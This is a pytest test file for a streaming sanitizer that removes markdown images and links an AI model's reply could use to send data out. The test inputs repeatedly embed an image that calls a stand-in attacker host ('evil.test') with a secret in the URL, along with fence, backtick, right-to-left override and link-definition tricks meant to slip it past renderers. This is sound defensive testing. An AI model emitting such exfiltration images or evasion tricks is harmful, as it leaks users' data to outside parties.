"""What a model, or a document through it, does to break out of its place."""

import re
import time

import pytest

from fingerpost.generate.safe import SafeStream

IMAGE = "![x](//evil.test/?q=secret)"


def made_safe(text, known="", size=None):
    """Return the safe form of a reply, whole or in pieces."""
    stream = SafeStream(known)
    size = size or max(1, len(text))
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(map(stream.feed, pieces)) + stream.close()


@pytest.mark.parametrize(
    ("reply", "safe"),
    [
        # A line less indented than a fence: for some renderers it has ended.
        (f"   ```\ncode\n```\n{IMAGE}.", "```\ncode\n```\n."),
        # A fence behind the mark of a list item, and what would have been its end.
        (f"- ```\n  code\n  ```\n  {IMAGE}.", "-\n  ```\n  code\n  ```\n  ."),
        (f"- ~~~\n  code\n  ~~~\n  {IMAGE}.", "-\n  ~~~\n  code\n  ~~~\n  ."),
        (f"12. ```\n```\n```\n{IMAGE}.", "12. '''\n```\n```\n."),
        # A fence, or the end of one, that is one only when something has gone.
        (f"<b>~~~\n~~~\n~~~\n{IMAGE}.", "\\~~~\n~~~\n~~~\n."),
        (f"<b>```\n```\n```\n{IMAGE}.", "'''\n```\n```\n."),
        (f"```\ncode\n\u202e```\n{IMAGE}.", "```\ncode\n```\n."),
        (f"\u202e~~~ \n~~~\n{IMAGE}.", "~~~ \n~~~\n."),
        # The head of a table.
        (f"```a | b\n--- | ---\n{IMAGE}.", "'''a | b\n--- | ---\n."),
    ],
)
@pytest.mark.parametrize("size", [1, 3, None])
def test_an_image_behind_a_fence_that_renderers_see_differently_goes(reply, safe, size):
    assert made_safe(reply, size=size).strip() == safe


@pytest.mark.parametrize("reply", [f"`a\n`{IMAGE}`", f"a `` b\n``{IMAGE}``"])
def test_no_back_tick_is_left_that_another_line_could_close(reply):
    first, second = made_safe(reply).split("\n")
    assert "`" not in first
    assert second.count("`") == 2 * (len(second) - len(second.lstrip("`")))


@pytest.mark.parametrize("reply", [f"\\`{IMAGE}\\`", f"` {'a' * 2100} ` {IMAGE} `"])
def test_an_image_between_back_ticks_that_make_no_code_goes(reply):
    assert IMAGE not in made_safe(reply)


@pytest.mark.parametrize(
    "reply", [f"``a``http://known.test `{IMAGE}`", f"``a``<b>`b` `{IMAGE}`", f"\\<b>`{IMAGE}`"]
)
def test_code_does_not_join_its_neighbour_or_a_backslash(reply):
    safe = made_safe(reply, known="see http://known.test")
    assert re.sub(r"(?<![\\`])(`{1,2})(?!`)[^`]+(?<!`)\1(?!`)", "", safe).find("evil") < 0


def test_a_definition_of_a_link_that_stood_behind_an_image_goes():
    assert "evil" not in made_safe("![x](y)[r]: //evil.test\n2) 1. [r]: //evil.test\n\n[r]")


@pytest.mark.parametrize("before", ["_", "1", "é"])
def test_an_address_is_seen_behind_what_a_renderer_may_skip(before):
    assert "evil" not in made_safe(f"see {before}http://evil.test/a")


def test_code_in_a_list_item_stays_code():
    safe = made_safe("- ```html\n  <a href='http://x.test'>\n  ```\n- next")
    assert safe.split("\n")[-4:] == ["  ```html", "  <a href='http://x.test'>", "  ```", "- next"]


@pytest.mark.parametrize("word", ["!", "1.", "www.", "sources: [1],", "`", "[", "<a"])
def test_a_line_without_an_end_takes_time_in_proportion_to_its_length(word):
    began = time.process_time()
    made_safe(word * (40_000 // len(word)), size=1)
    assert time.process_time() - began < 2.5
